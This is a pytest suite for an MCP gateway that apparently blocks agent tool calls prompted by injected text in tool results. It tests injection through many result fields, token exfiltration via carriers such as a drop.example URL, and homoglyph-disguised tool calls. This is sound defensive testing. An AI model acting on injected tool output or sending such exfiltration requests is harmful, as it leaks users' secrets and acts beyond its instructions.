"""The checkpoint by itself: what each side sends, what the other side gets, and what a liar on either side achieves."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from base64 import b64encode
from collections.abc import Callable, Sequence
from concurrent.futures import Future, ThreadPoolExecutor
from hashlib import sha256
from pathlib import Path

import pytest
from mcp_rig import HIJACKED, POISON, Rig
from rule_cache import keep_key

from lockgate.core.errors import SessionsUnavailable
from lockgate.core.text.scanner import Scanner
from lockgate.core.vocabulary import Action, Receipt
from lockgate.journal.merkle import leaf_hash
from lockgate.mcp import messages as wire
from lockgate.mcp.checkpoint import MAX_PART, McpCheckpoint, McpParts
from lockgate.mcp.tool_pins import ToolPins
from lockgate.runtime.strict_json import PORTABLE
from lockgate.sessions import Host

# What goes through


@pytest.mark.parametrize(
    "line",
    [
        b'{"jsonrpc":"2.0","id":1,"method":"ping"}\n',
        b'{ "jsonrpc" : "2.0", "method":"notifications/initialized" }\r\n',
        b'{"jsonrpc":"2.0","id":"x","method":"vendor/unheard-of","params":{"a":[1,2.50,"\\u00e9"]}}\n',
        b'{"jsonrpc":"2.0","method":"notifications/progress","params":{"progressToken":{"a":[1]},"progress":1}}\n',
    ],
    ids=["ping", "blanks", "unknown", "nested-token"],
)
def test_what_is_no_call_passes_byte_for_byte(rig: Rig, line: bytes) -> None:
    rig.says(line)
    assert (rig.server, rig.client) == ([line], [])
    rig.forget()
    rig.answers(line)
    assert (rig.server, rig.client) == ([], [line])


@pytest.mark.parametrize("said", [b'"result":{"roots":[]}', b'"error":{"code":-1,"message":"no"}'], ids=["yes", "no"])
@pytest.mark.parametrize("batch", [False, True])
def test_an_answer_passes_once_and_only_where_the_server_asked(rig: Rig, said: bytes, *, batch: bool) -> None:
    line = b'{"jsonrpc":"2.0","id":7,%b}' % said
    line = b"[%b]\n" % line if batch else line + b"\n"
    rig.says(line)
    assert rig.server == []
    rig.answers({"jsonrpc": "2.0", "id": 7, "method": "roots/list"})
    rig.forget()
    for _ in range(2):
        rig.says(line)
    assert rig.server == [line]


@pytest.mark.parametrize("id", [7, "7", 7.5])
def test_an_answer_of_the_server_passes_once_and_only_where_the_client_asked(rig: Rig, id: object) -> None:
    answer = {"jsonrpc": "2.0", "id": id, "result": {"content": [{"type": "text", "text": POISON}]}}
    rig.answers(answer)
    rig.answers([answer, {"jsonrpc": "2.0", "method": "notifications/progress"}])
    assert [json.loads(line) for line in rig.client] == [[{"jsonrpc": "2.0", "method": "notifications/progress"}]]
    # It is kept all the same: another client of the session may have read it.
    assert POISON in rig.blocks()[0][1]
    rig.forget()
    rig.asks(id)
    for _ in range(2):
        rig.answers(answer)
    assert rig.client == [wire.line_of(answer)]
    assert rig.point.unasked_answers == 3


def test_the_server_answers_no_call_that_was_held(rig: Rig) -> None:
    rig.reads()
    id = rig.call("send_email", HIJACKED)
    rig.denied()
    rig.forget()
    rig.result(id, "sent")
    assert rig.client == []


def test_a_harmless_call_passes_byte_for_byte(rig: Rig) -> None:
    line = (
        b'{"id" :1.0, "jsonrpc":"2.0","method":"tools/call","params":{"name":"read","arguments":{"n":1.50}, "x":{}}}\n'
    )
    rig.reads()
    rig.says(line)
    assert (rig.server, rig.client) == ([line], [])


def test_the_servers_own_requests_reach_the_client_untouched_and_are_noted(rig: Rig) -> None:
    asked = {"jsonrpc": "2.0", "id": 0, "method": "elicitation/create", "params": {"message": f"Name? {POISON}"}}
    rig.answers(asked)
    assert rig.client == [wire.line_of(asked)]
    rig.forget()
    rig.says({"jsonrpc": "2.0", "id": 0, "result": {"action": "accept", "content": {"approve": True}}})
    assert len(rig.server) == 1
    rig.forget()
    rig.call("send_email", HIJACKED)
    assert "desk@clearance.example" in rig.denied()


# What is stopped


def test_a_hijacked_call_is_answered_in_the_servers_place(rig: Rig) -> None:
    rig.reads()
    rig.call("send_email", HIJACKED, id="seven")
    reason = rig.denied()
    assert rig.told()["id"] == "seven"
    assert "resultType" not in rig.told()["result"]
    assert "lockgate approvals approve" in reason
    assert "which stands in the result of " in reason
    assert "and not in your words. " in reason


def test_without_the_poisoned_text_the_same_call_passes(rig: Rig) -> None:
    rig.reads("Lunch is at noon.")
    rig.call("send_email", HIJACKED)
    assert len(rig.server) == 1


@pytest.mark.parametrize(
    ("result", "where"),
    [
        ({"content": [{"type": "text", "text": POISON}]}, "text"),
        ({"content": [], "structuredContent": {"rows": [{"note": POISON}]}}, "structured"),
        ({"content": [{"type": "resource", "resource": {"uri": "x:y", "text": POISON}}]}, "embedded"),
        ({"contents": [{"uri": "x:y", "blob": b64encode(POISON.encode()).decode()}]}, "bytes"),
        ({"messages": [{"role": "user", "content": {"type": "text", "text": POISON}}]}, "prompt"),
        ({"content": [{"type": "text", "text": POISON}], "isError": True}, "failure"),
        ({"instructions": POISON, "protocolVersion": "2025-06-18"}, "instructions"),
        ({"content": [{"type": "image", "data": POISON, "mimeType": "image/png"}]}, "no-picture"),
        ({"resources": [{"uri": "a:b", "name": "n", "description": POISON}]}, "listing"),
        ({"odd": {POISON: 1}}, "name"),
        ({"content": [], "_meta": {"example.com/note": POISON}}, "meta"),
        ({"content": [], "_meta": {"io.modelcontextprotocol/note": [POISON]}}, "meta-of-the-protocol"),
        ({"content": [{"type": "text", "text": "ok", "_meta": {POISON: 1}}]}, "name-in-meta"),
        ({"content": [], "structuredContent": {"type": POISON}}, "type"),
        ({"content": [], "structuredContent": {"role": POISON}}, "role"),
        ({"content": [{"type": "text", "text": "ok", "mimeType": POISON}]}, "mime"),
        ({"content": [], "protocolVersion": POISON, "resultType": "complete"}, "version"),
        ({"content": [], "tools": [POISON]}, "no-tool"),
        ({"content": [], "tools": [{"name": POISON, "type": 1}]}, "tool-in-a-result"),
        ({"contents": [{"blob": b64encode(b"\xff " + POISON.encode() + b" \xfe").decode()}]}, "bad-bytes"),
        ({"contents": [{"blob": b64encode(bytes(range(128, 256)) * 9 + POISON.encode()).decode()}]}, "among-bytes"),
        ({"contents": [{"blob": b64encode(POISON.encode("utf-16")).decode()}]}, "utf-16"),
        ({"contents": [{"blob": b64encode(b">>>???" + POISON.encode(), b"-_").decode().rstrip("=")}]}, "url-safe"),
        ({"content": [{"type": "image", "data": b64encode(b"GIF89a " + POISON.encode()).decode()}]}, "no-gif"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_whatever_a_model_may_read_counts(rig: Rig, result: object, where: str) -> None:
    rig.answers({"jsonrpc": "2.0", "id": 99, "result": result})
    rig.forget()
    rig.call("send_email", HIJACKED)
    assert rig.denied()


def test_an_error_and_an_unknown_notice_count_too(rig: Rig) -> None:
    rig.answers({"jsonrpc": "2.0", "id": 1, "error": {"code": 1, "message": POISON}})
    rig.answers({"jsonrpc": "2.0", "method": "notifications/vendor/channel", "params": {"content": POISON}})
    assert [POISON in text for _, text in rig.blocks()] == [True, True]
    assert any("vendor/channel" in source for source, _ in rig.blocks())


def test_pictures_and_progress_are_not_noted(rig: Rig) -> None:
    rig.asks(1, 2)
    rig.result(1, "", structuredContent=None)
    pixels = b"".join(sha256(bytes([number])).digest() for number in range(200))
    picture = {"type": "image", "data": b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + pixels).decode()}
    rig.answers({"jsonrpc": "2.0", "id": 2, "result": {"content": [{**picture, "mimeType": "image/png"}]}})
    for number in range(2_000):
        params = {"progressToken": 1, "progress": number, "message": "still at it"}
        rig.answers({"jsonrpc": "2.0", "method": "notifications/progress", "params": params})
    assert rig.blocks() == []
    assert len(rig.client) == 2_002


def other_host(rig: Rig) -> Host:
    """Another process, as far as the store can tell."""
    return rig.open_host(rig.host.gate)


def poisoned(more: str = "", id: int = 1) -> bytes:
    return wire.line_of({"jsonrpc": "2.0", "id": id, "result": {"content": [{"text": POISON + more}]}})


# Kept, and then passed on


def test_an_answer_is_in_the_store_before_the_client_gets_it(rig: Rig) -> None:
    """The next call may come by another server's checkpoint, which sees only what is kept."""
    other = other_host(rig)
    kept: list[int] = []
    rig.point._to_client = lambda _: kept.append(sum(POISON in each.content for each in other.blocks("s1")))
    for more in ("", " and more" * 10_000):
        rig.asks(1)
        rig.point.from_server(poisoned(more))
    assert kept == [1, 2]
    assert other.check("s1", "mcp__mail__send_email", HIJACKED).decision.action is Action.PAUSE


def test_a_ruling_is_recorded_and_kept_before_the_server_gets_the_call(tmp_path: Path, scanner: Scanner) -> None:
    recorded: list[bytes] = []

    class Journal:
        def enqueue(self, records: Sequence[bytes], *, durable: bool) -> Callable[[], tuple[Receipt, ...]]:
            recorded.extend(records)
            return lambda: tuple(Receipt("o", 0, leaf_hash(each)) for each in records)

    rig = Rig(tmp_path, scanner, journal=Journal())
    seen: list[tuple[int, list[str]]] = []
    with rig.opened:
        other = other_host(rig)
        rig.point._to_server = lambda *_: seen.append((len(recorded), [each.tool for each in other.decisions()]))
        rig.call("read_inbox", {})
    assert seen == [(1, ["mcp__mail__read_inbox"])]


def test_an_answer_that_cannot_be_kept_is_not_passed_on(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object, **__: object) -> None:
        raise SessionsUnavailable("the disk is full")

    id = rig.call("read_inbox", {})
    rig.forget()
    monkeypatch.setattr(rig.host, "add", fail)
    rig.result(id, POISON)
    told = rig.told()
    assert told["id"] == id
    assert "not passed on by Lockgate: the disk is full" in told["error"]["message"]
    assert POISON not in str(told)
    rig.forget()
    # A request of the server gets an error, so that the server does not wait for ever.
    rig.answers({"jsonrpc": "2.0", "id": 5, "method": "sampling/createMessage", "params": {"text": POISON}})
    assert rig.client == []
    assert json.loads(rig.server[0])["error"]["message"] == "not passed on by Lockgate: the disk is full"
    rig.forget()
    # What answers no request of the client is dropped.
    rig.answers({"jsonrpc": "2.0", "id": 6, "result": {"content": [{"text": POISON}]}})
    assert (rig.client, rig.server) == ([], [])
    monkeypatch.undo()
    assert [each.ran for each in other_host(rig).decisions()] == ["failed"]
    rig.result(rig.call("read_inbox", {}), "hello")
    assert ("mcp:mail:read_inbox", "hello") in rig.blocks()


def test_a_store_that_fails_lets_neither_answers_nor_high_risk_calls_through(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    id = rig.call("read_inbox", {})
    rig.forget()

    def fail(*_: object, **__: object) -> None:
        raise SessionsUnavailable("the disk is full")

    monkeypatch.setattr(rig.host.store, "append", fail)
    rig.result(id, POISON)
    assert "error" in rig.told()
    rig.forget()
    rig.call("send_email", {"to": "ann@example.com"})
    assert "the disk is full" in rig.denied()
    monkeypatch.undo()
    # The client never got the answer. The session cannot know that, so a person decides.
    rig.forget()
    rig.call("send_email", {"to": "ann@example.com"})
    assert "cap:context-unknown" in rig.denied()


def test_answers_of_several_threads_are_all_kept(rig: Rig) -> None:
    """As a server over HTTP brings them."""
    rig.asks(*range(16))
    with ThreadPoolExecutor(4) as pool:
        for done in [pool.submit(rig.point.from_server, poisoned(f" {number}", number)) for number in range(16)]:
            done.result(30)
    assert len(rig.client) == 16
    assert len(other_host(rig).blocks("s1")) == 16


@pytest.mark.parametrize("size", [10, 100_000])
def test_an_answer_that_comes_while_the_call_is_forwarded_is_its_outcome(rig: Rig, size: int) -> None:
    def answers(line: bytes, _: object) -> None:
        rig.server.append(line)
        id = json.loads(line)["id"]
        rig.point.from_server(wire.line_of({"jsonrpc": "2.0", "id": id, "result": {"content": [{"text": "x" * size}]}}))

    rig.point._to_server = answers
    rig.call("read_inbox", {})
    (kept,) = other_host(rig).decisions()
    assert (kept.tool, kept.ran) == ("mcp__mail__read_inbox", "ran")


KILLED = """
import os, sys
from concurrent.futures import Future
from pathlib import Path
from lockgate.assemble import cached_scanner
from lockgate.core.text.rules import RULES
from lockgate.gate.gate import Gate
from lockgate.sessions import Host
from lockgate.mcp.checkpoint import McpCheckpoint, McpParts
from lockgate.runtime.sealed_cache import SealedCache
from lockgate.mcp.tool_pins import ToolPins
from lockgate.sessions.stores.sqlite import SqliteSessions

def kill(*_):
    os.kill(os.getpid(), 9)

folder, when = Path(sys.argv[1]), sys.argv[2]
rules = cached_scanner(RULES, SealedCache(Path(os.environ["XDG_CACHE_HOME"]) / "lockgate", folder / "lockgate"))
host = Host(Gate(scanner=rules), SqliteSessions(folder / "sessions.db"))
parts = Future()
parts.set_result(McpParts(host, "s1", ToolPins(None, "mail"), None))
point = McpCheckpoint(parts, server="mail", to_server=lambda *_: None, to_client=kill if when == "after" else print)
if when == "before":
    host.store.append = kill
point.from_client(b'{"jsonrpc":"2.0","id":1,"method":"ping"}')
point.from_server(sys.stdin.buffer.readline())
"""


@pytest.mark.skipif(os.name != "posix", reason="signals are POSIX's")
@pytest.mark.parametrize("when", ["before", "after"])
def test_a_killed_pump_leaves_the_context_as_the_client_has_it(
    rig: Rig, tmp_path: Path, cache: Path, when: str
) -> None:
    """Killed before the answer is kept, it passed nothing on; killed right after it passed it on, the store has it."""
    keep_key(tmp_path)
    environ = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "XDG_CACHE_HOME": str(cache)}
    command = [sys.executable, "-c", KILLED, str(tmp_path), when]
    done = subprocess.run(command, input=poisoned(), env=environ, capture_output=True, check=False, timeout=60)
    assert (done.returncode, done.stdout) == (-9, b""), done.stderr
    other = other_host(rig)
    assert [POISON in each.content for each in other.blocks("s1")] == ([True] if when == "after" else [])
    held = other.check("s1", "mcp__mail__send_email", HIJACKED).decision
    assert held.action is (Action.PAUSE if when == "after" else Action.CONTINUE)
    assert "cap:context-unknown" not in {found.rule for found in held.findings}


def test_what_the_server_says_before_there_is_a_session_waits_for_it(rig: Rig) -> None:
    parts: Future[McpParts] = Future()
    point = McpCheckpoint(parts, server="mail", to_client=rig.client.append, to_server=lambda *_: None)
    with ThreadPoolExecutor(1) as pool:
        answer = wire.line_of({"jsonrpc": "2.0", "id": 1, "result": {"instructions": POISON}})
        point.from_client(wire.line_of({"jsonrpc": "2.0", "id": 1, "method": "ping"}))
        waits = pool.submit(point.from_server, answer)
        # A notice that no model reads does not wait, and neither does the client.
        point.from_server(wire.line_of({"jsonrpc": "2.0", "method": "notifications/progress"}))
        point.from_client(wire.line_of({"jsonrpc": "2.0", "id": 2, "method": "ping"}))
        assert len(rig.client) == 1
        parts.set_result(McpParts(rig.host, rig.session, ToolPins(rig.pins_file, "mail"), rig.approvals))
        waits.result(30)
    assert rig.client[1] == answer
    assert POISON in rig.blocks()[0][1]


def test_a_long_result_is_noted_in_parts_and_found_at_its_end(rig: Rig) -> None:
    rig.result(1, f"{'lorem ipsum ' * (MAX_PART // 12 + 1000)}\n{POISON}")
    rig.forget()
    assert len(rig.blocks()) == 2
    rig.call("send_email", HIJACKED)
    assert "desk@clearance.example" in rig.denied()


def test_a_source_says_which_tool_it_was(rig: Rig) -> None:
    rig.result(rig.call("read_inbox", {}, id="1"), "hello")
    rig.says({"jsonrpc": "2.0", "id": 1, "method": "resources/read", "params": {"uri": "file:///x"}})
    rig.answers({"jsonrpc": "2.0", "id": 1, "result": {"contents": [{"text": "there"}]}})
    assert [source for source, _ in rig.blocks()] == ["mcp:mail:read_inbox", "mcp:mail:resources/read file:///x"]


def test_what_became_of_a_call_is_kept(rig: Rig) -> None:
    rig.result(rig.call("read_inbox", {}), "hello")
    rig.result(rig.call("read_inbox", {}), "no such folder", isError=True)
    rig.call("read_inbox", {})
    assert [kept.ran for kept in rig.host.decisions(session="s1")] == ["", "failed", "ran"]


# Our own failures


@pytest.mark.parametrize("error", [SessionsUnavailable("the disk is full"), ZeroDivisionError(POISON)])
def test_a_failure_of_ours_is_a_denial(rig: Rig, monkeypatch: pytest.MonkeyPatch, error: Exception) -> None:
    def fail(*_: object, **__: object) -> None:
        raise error

    monkeypatch.setattr(rig.host, "check", fail)
    rig.call("read_inbox", {})
    assert rig.denied().endswith(f"could not rule on it: {getattr(error, 'message', 'ZeroDivisionError')}.")
    rig.forget()
    monkeypatch.undo()
    rig.call("read_inbox", {})
    assert len(rig.server) == 1


def test_an_outcome_that_cannot_be_kept_is_reported_after_the_answer(
    rig: Rig, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fail(*_: object, **__: object) -> None:
        raise SessionsUnavailable("the disk is full")

    id = rig.call("read_inbox", {})
    rig.forget()
    monkeypatch.setattr(rig.host, "outcome", fail)
    rig.result(id, "hello")
    assert rig.told()["result"]["content"][0]["text"] == "hello"
    assert any("hello" in text for _, text in rig.blocks())
    assert "edge=mcp-outcome" in caplog.text


def test_a_full_session_denies_what_matters_and_goes_on_with_the_rest(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("lockgate.sessions.host.MAX_BLOCKS", 2)
    for number in range(4):
        rig.reads(f"Mail number {number}")
    rig.call("read_inbox", {})
    assert len(rig.server) == 1
    rig.forget()
    rig.call("send_email", {"to": "ana"})
    assert "cap:context-unknown" in rig.denied()


def test_both_a_result_and_an_error_are_noted(rig: Rig) -> None:
    rig.answers({"jsonrpc": "2.0", "id": 1, "result": {"content": []}, "error": {"code": 1, "message": POISON}})
    rig.forget()
    rig.call("send_email", HIJACKED)
    assert rig.denied()


def test_what_cannot_be_put_together_denies(rig: Rig) -> None:
    broken: Future[McpParts] = Future()
    broken.set_exception(SessionsUnavailable("no folder"))
    rig.point = McpCheckpoint(broken, server="mail", to_client=rig.client.append, to_server=lambda *_: None)
    rig.call("read_inbox", {})
    assert "no folder" in rig.denied()
    rig.forget()
    rig.says({"jsonrpc": "2.0", "id": "list", "method": "tools/list"})
    rig.answers({"jsonrpc": "2.0", "id": "list", "result": {"tools": []}})
    assert "no folder" in rig.told()["error"]["message"]


# What cannot be read


@pytest.mark.parametrize(
    "line",
    [
        b"not json\n",
        b'{"jsonrpc":"2.0","id":1,"method":"ping"\n',
        b'\xff\xfe{"id":1}\n',
        b'{"jsonrpc":"2.0","id":1,"method":"x","params":{"a":"\xed\xa0\x80"}}\n',
        b'{"jsonrpc":"2.0","id":1,"method":"ping","method":"tools/call","params":{"name":"send_email"}}\n',
        b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{"to":"a","to":"b"}}}\n',
        b'{"jsonrpc":"2.0","id":1,"method":"x","params":\r{"jsonrpc":"2.0","id":2,"method":"tools/call"}\r}\n',
        b'{"jsonrpc":"2.0","id":1,"method":"x","params":NaN}\n',
        b'{"jsonrpc":"2.0","id":1,"method":"x","params":1e999}\n',
        b"[" * 100_000 + b"]" * 100_000 + b"\n",
        b'{"jsonrpc":"2.0","id":1,"method":"x","params":%b1%b}\n' % (b"[" * PORTABLE.depth, b"]" * PORTABLE.depth),
        b'"tools/call"\n',
        '\ufeff{"jsonrpc":"2.0","id":1,"method":"ping"}\n'.encode(),
        '{"jsonrpc":"2.0","id":1,"method":"ping"}\n'.encode("utf-16"),
    ],
    ids=[
        "words", "half", "bytes", "surrogate", "two-methods", "two-recipients", "return", "nan", "huge", "deep",
        "one-too-deep", "text", "mark", "utf-16",
    ],
)  # fmt: skip
def test_what_is_not_read_alike_by_everybody_is_not_passed_on(rig: Rig, line: bytes) -> None:
    rig.says(line)
    assert rig.server == []
    assert rig.told()["error"]["code"] in (wire.PARSE_ERROR, wire.INVALID_REQUEST)


def test_a_message_of_the_most_levels_is_passed_on(rig: Rig) -> None:
    levels = PORTABLE.depth - 1
    line = b'{"jsonrpc":"2.0","id":1,"method":"x","params":%b1%b}\n' % (b"[" * levels, b"]" * levels)
    rig.says(line)
    assert rig.server == [line]


@pytest.mark.parametrize(
    "message",
    [
        {"id": 1, "Method": "tools/call", "params": {"name": "send_email", "arguments": HIJACKED}},
        {"id": 1, "method": "ping", "METHOD": "tools/call", "params": {"name": "send_email", "arguments": HIJACKED}},
        {"id": 1, "method": "tools/call", "params": {"name": "read_inbox", "Name": "send_email"}},
        {"id": 1, "method": "tools/call", "params": {"name": "read_inbox", "ARGUMENTS": HIJACKED}},
        {"id": 1, "method": "tools/call", "paramſ": {"name": "send_email"}, "params": {"name": "read_inbox"}},
        {"id": 1, "method": "Tools/Call", "params": {"name": "send_email"}},
        {"id": 1, "method": " tools/call", "params": {"name": "send_email"}},
        {"id": 1, "method": ["tools/call"], "params": {"name": "send_email"}},
        {"method": "tools/call", "params": {"name": "send_email"}},
        {"id": None, "method": "tools/call", "params": {"name": "send_email"}},
        {"id": True, "method": "tools/call", "params": {"name": "send_email"}},
        {"id": {"a": 1}, "method": "tools/call", "params": {"name": "send_email"}},
        {"id": 1, "method": "tools/call", "params": {"name": ""}},
        {"id": 1, "method": "tools/call", "params": {"name": ["send_email"]}},
        {"id": 1, "method": "tools/call", "params": ["send_email", {}]},
        {"id": 1, "method": "tools/call"},
        {"id": 1, "method": "tools/call", "params": {"name": "send_email", "arguments": "{}"}},
        {"id": 1, "method": "ping", "\uff4dethod": "tools/call", "params": {"name": "send_email"}},
        {"id": 1, "method": "ping", "m\u0435thod": "tools/call", "params": {"name": "send_email"}},
        {"id": 1, "method": "ping", "note": "ghp_" + "a1B2c3D4e5F6" * 3},
        {"id": 1, "method": "ping", "result": {"text": "x"}},
        {"jsonrpc": "ghp_" + "a1B2c3D4e5F6" * 3, "id": 1, "method": "ping"},
        {"jsonrpc": ["2.0"], "id": 1, "method": "ping"},
        {"id": 1, "result": {}, "params": {"name": "send_email"}},
        {"id": 1, "method": "tools/call", "params": {"name": "read_inbox", "n\u0430me": "send_email"}},
        {"id": 1, "method": "tools/call", "params": {"name": "read_inbox", "argu_ments": HIJACKED}},
        {"id": 1, "method": "tools/call", "params": {"name": "read_inbox", "x": 1, "arguments": {"x": 2}}},
        {"id": 1, "method": "tools/call", "params": {"name": "read_inbox", "arguments": []}},
    ],
    ids=range(28),
)  # fmt: skip
def test_a_call_in_disguise_is_not_passed_on(rig: Rig, message: dict[str, object]) -> None:
    rig.says({"jsonrpc": "2.0", **message})
    assert rig.server == []
    assert "not passed on" in rig.told()["error"]["message"]


@pytest.mark.parametrize(
    "line",
    [b"Server is listening\n", b'{"half":\n', b'{"result":1,"result":2}\n', b'{"a":\r1}\n', b"[" * 100_000 + b"\n"],
    ids=["words", "half", "twice", "return", "deep"],
)  # fmt: skip
def test_what_the_server_sends_is_not_passed_on_unread(rig: Rig, line: bytes) -> None:
    rig.answers(line)
    assert rig.client == []


TOKEN = "ghp_" + "a1B2c3D4e5F6" * 3
CARRIERS = [
    ("resources/read", {"uri": f"https://drop.example/?k={TOKEN}"}),
    ("resources/subscribe", {"uri": f"notes://{TOKEN}"}),
    ("resources/unsubscribe", {"uri": f"notes://{TOKEN}"}),
    ("prompts/get", {"name": "review", "arguments": {"text": TOKEN}}),
    ("completion/complete", {"ref": {"type": "ref/prompt", "name": "x"}, "argument": {"name": "a", "value": TOKEN}}),
    ("vendor/export", {"text": TOKEN}),
    ("vendor/export", [TOKEN]),
    ("tool/call", {"name": "send_email", "arguments": {"body": TOKEN}}),
    ("ping", {"text": TOKEN}),
    ("tools/list", {"cursor": "2", "filter": TOKEN}),
    ("tools/list", {"cursor": TOKEN}),
    ("tools/list", {TOKEN: 1}),
    ("vendor/export", {"rows": [{TOKEN: None}]}),
    ("resources/list", {"cursor": TOKEN}),
    ("tasks/get", {"taskId": TOKEN}),
    ("tasks/cancel", {"taskId": TOKEN}),
]


@pytest.mark.parametrize(
    ("method", "params"), CARRIERS, ids=[f"{method} {at}" for at, (method, _) in enumerate(CARRIERS)]
)
@pytest.mark.parametrize("batch", [False, True])
def test_every_request_that_can_carry_data_out_is_ruled_on(
    rig: Rig, method: str, params: object, *, batch: bool
) -> None:
    rig.reads()
    message = {"jsonrpc": "2.0", "id": 7, "method": method, "params": params}
    rig.says([message] if batch else message)
    assert rig.server == []
    told = rig.told()[0] if batch else rig.told()
    assert (told["id"], told["error"]["code"]) == (7, wire.FAILED)
    assert "did not pass this call on" in told["error"]["message"]
    assert rig.host.decisions(session="s1")[0].tool == f"mcp__mail__{method}"


@pytest.mark.parametrize(
    "more", [{"x": TOKEN}, {"task": {"ttl": TOKEN}}, {"task": {"ttl": 1, "note": TOKEN}}, {"task": TOKEN}], ids=range(4)
)
def test_every_parameter_of_a_call_is_ruled_on(rig: Rig, more: dict[str, object]) -> None:
    rig.reads()
    rig.call("read_inbox", {}, **more)
    assert rig.denied()


def test_what_clients_add_to_a_call_passes(rig: Rig) -> None:
    rig.reads()
    meta = {"progressToken": 7, "vendor/toolUseId": "toolu_01"}
    rig.call("read_inbox", {"task": "sort"}, task={"ttl": 60_000}, _meta=meta)
    assert len(rig.server) == 1
    for method, params in (
        ("tools/list", {"cursor": b64encode(b'{"offset":10,"sort":"name ascending"}').decode()}),
        ("tasks/result", {"taskId": "786512e2-9e0d-44bd-8f29-789f320fe840"}),
    ):
        rig.forget()
        rig.says({"jsonrpc": "2.0", "id": 8, "method": method, "params": params})
        assert len(rig.server) == 1


def test_a_held_notification_is_dropped_without_an_answer(rig: Rig) -> None:
    rig.reads()
    rig.says({"jsonrpc": "2.0", "method": "notifications/vendor", "params": {"text": TOKEN}})
    assert (rig.server, rig.client) == ([], [])


def test_an_ordinary_request_passes_with_its_ruling_and_its_outcome(rig: Rig) -> None:
    rig.reads()
    line = wire.line_of({"jsonrpc": "2.0", "id": 7, "method": "resources/read", "params": {"uri": "notes://today"}})
    rig.says(line)
    assert rig.server == [line]
    rig.answers({"jsonrpc": "2.0", "id": 7, "result": {"contents": [{"uri": "notes://today", "text": "hello"}]}})
    ruling = rig.host.decisions(session="s1")[0]
    assert (ruling.tool, ruling.ran) == ("mcp__mail__resources/read", "ran")
    assert rig.blocks()[-1][0] == "mcp:mail:resources/read notes://today"


@pytest.mark.parametrize("method", wire.UNRULED)
def test_what_only_the_client_program_writes_passes_without_a_ruling(rig: Rig, method: str) -> None:
    params = dict.fromkeys((*wire.UNRULED[method], "_meta"))
    line = wire.line_of({"jsonrpc": "2.0", "id": 7, "method": method, "params": params})
    rig.says(line)
    assert rig.server == [line]
    assert rig.host.decisions(session="s1") == []


@pytest.mark.parametrize(
    "method",
    ["tools/call/", "tools//call", "tools.call", "toolscall", "TOOLS/CALL", "tools/call\u200b", "t\u043eols/call",
     "tools\\call", "\uff54ools/call", "tools/call\0", "tools/ca\u0301ll", "Resources/Read", "prompts_get",
     "completion.complete", "notifications/Initialized", "x" * 201, " " * 2000 + "tools/call"],
    ids=range(17),
)  # fmt: skip
def test_a_method_that_looks_like_one_of_the_protocols_is_refused(rig: Rig, method: str) -> None:
    for batch in (False, True):
        message = {"jsonrpc": "2.0", "id": 7, "method": method, "params": {"name": "read_inbox", "arguments": {}}}
        rig.says([message] if batch else message)
        assert rig.server == []
        told = rig.told()[0] if batch else rig.told()
        assert told["error"]["code"] == wire.INVALID_REQUEST
        rig.forget()


def test_another_spelling_of_a_tool_keeps_its_annotations(rig: Rig) -> None:
    rig.tools({"name": "get_it", "annotations": {"destructiveHint": True}})
    rig.reads()
    for name in ("get_it", "Get_It", "get-it"):
        rig.call(name, {"id": "1"})
        assert [each.kind for each in rig.host.decisions(session="s1")[0].decision.effects] == ["deletes-record"]


@pytest.mark.parametrize("levels", [198, 199, 200, 400])
@pytest.mark.parametrize("filler", ["", "x" * (1 << 20)], ids=["short", "a mebibyte before it"])
def test_no_text_of_an_answer_is_too_deep_or_too_far_back_to_be_kept(rig: Rig, levels: int, filler: str) -> None:
    deep: object = [filler, {"note": POISON}]
    for level in range(levels):
        deep = [deep] if level % 2 else {"a": deep}
    id = rig.call("read_inbox", {})
    rig.answers({"jsonrpc": "2.0", "id": id, "result": {"structuredContent": deep}})
    rig.forget()
    assert POISON in rig.blocks()[-1][1].splitlines()
    rig.call("send_email", HIJACKED)
    assert rig.denied()


def test_an_answer_that_cannot_be_passed_on_is_an_error_for_the_client(rig: Rig) -> None:
    id = rig.call("read_inbox", {})
    rig.forget()
    rig.answers(b'{"jsonrpc":"2.0","id":%d,"result":{"content":[],"content":[{"type":"text","text":"x"}]}}\n' % id)
    assert rig.told()["id"] == id
    assert "stands twice" in rig.told()["error"]["message"]
    assert [kept.ran for kept in rig.host.decisions(session="s1")] == ["failed"]
    rig.forget()
    rig.answers(b'{"jsonrpc":"2.0","id":%d,"result":1,"result":2}\n' % id)
    assert rig.client == [], "the client does not wait for it any more"


@pytest.mark.parametrize(
    "form", ['{"jsonrpc":"2.0","id":%d,"result":%s}\n', '[{"result":%.0s{"a":"]}\\""},"id":%d,"x":%s}]\n']
)
def test_an_answer_that_is_too_deep_is_an_error_for_the_client(rig: Rig, form: str) -> None:
    id = rig.call("read_inbox", {})
    rig.forget()
    deep = "[" * 200_000 + "]" * 200_000
    rig.answers((form % ((id, deep) if form[0] == "{" else ("", id, deep))).encode())
    assert rig.told()["id"] == id
    assert "nested too deeply" in rig.told()["error"]["message"]


def test_broken_letters_of_the_server_are_passed_on_and_noted(rig: Rig) -> None:
    line = b'{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"\xff ' + POISON.encode() + b'"}]}}\n'
    rig.asks(1)
    rig.answers(line)
    assert rig.client == [line]
    rig.forget()
    rig.call("send_email", HIJACKED)
    assert rig.denied()


@pytest.mark.parametrize("name", ["send__email", "../send", "sеnd_email", "x" * 5_000, "a b\u202e", "send_email\n"])
def test_a_tool_of_an_odd_name_is_ruled_on_as_high_risk(rig: Rig, name: str) -> None:
    rig.reads()
    rig.call(name, HIJACKED)
    assert rig.denied()


# Batches


def batch(*messages: tuple[object, str, object]) -> bytes:
    return wire.line_of([{"jsonrpc": "2.0", "id": id, "method": how, "params": what} for id, how, what in messages])


READ = {"name": "read_inbox", "arguments": {}}
SEND = {"name": "send_email", "arguments": HIJACKED}


def test_a_batch_passes_whole(rig: Rig) -> None:
    line = batch((1, "tools/call", READ), (2, "ping", {}))
    rig.says(line)
    assert rig.server == [line]
